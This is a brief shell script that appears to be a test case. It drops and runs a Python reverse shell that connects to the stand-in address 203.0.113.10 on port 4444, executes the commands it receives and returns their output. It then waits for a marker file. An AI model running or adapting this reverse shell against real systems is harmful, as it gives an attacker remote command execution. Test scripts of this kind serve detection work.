#!/bin/sh
. /opt/case/case.sh

cat >/tmp/s.py <<'END'
import shlex, socket, subprocess
master = socket.create_connection(("203.0.113.10", 4444))
for line in master.makefile():
    words = shlex.split(line)
    if words[0] == "exit":
        break
    out = subprocess.run(words, stdout=subprocess.PIPE, stderr=subprocess.STDOUT).stdout
    master.sendall(out)
END
python3 /tmp/s.py
wait_for /tmp/reached
took_place
